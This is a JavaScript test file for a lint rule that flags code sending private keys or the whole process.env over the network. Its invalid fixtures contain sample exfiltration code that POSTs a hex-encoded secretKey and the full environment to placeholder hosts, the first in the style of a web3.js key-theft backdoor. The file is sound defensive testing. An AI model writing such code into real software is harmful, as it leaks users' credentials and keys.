import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

testRule(rule, {
  valid: [
    { name: 'env read, nothing sent', code: 'const all = JSON.stringify(process.env);\nrequire("fs").writeFileSync("env.json", all);' },
    { name: 'key signs locally', code: "const sig = nacl.sign.detached(msg, keypair.secretKey);\nawait fetch(rpc, { method: 'POST', body: JSON.stringify({ sig: Buffer.from(sig).toString('base64') }) });" },
    { name: 'token used as Authorization', code: "const t = require('child_process').execSync('gh auth token').toString().trim();\nawait fetch(api, { headers: { authorization: 'token ' + t } });" },
  ],
  invalid: [
    {
      name: 'private key handed to a sending helper (solana/web3.js style)',
      code: "const addToQueue = (v) => { fetch('https://rpc.example.invalid/q', { method: 'POST', headers: { 'x-cf-id': v } }); };\nfunction fromSecretKey(secretKey) {\n  addToQueue(Buffer.from(secretKey).toString('hex'));\n}",
      errors: [{ message: /collects a private key \(secretKey\), which this file sends over the network \(fetch via addToQueue\(\)\)/, line: 3 }],
    },
    {
      name: 'env collected into a report',
      code: "const report = { env: process.env };\nrequire('https').request({ host: 'c.example.invalid', method: 'POST' }).end(JSON.stringify(report));",
      errors: [{ message: /collects the whole process\.env/, line: 1 }],
    },
  ],
});

testSamples(rule, join(__dirname, 'samples'));
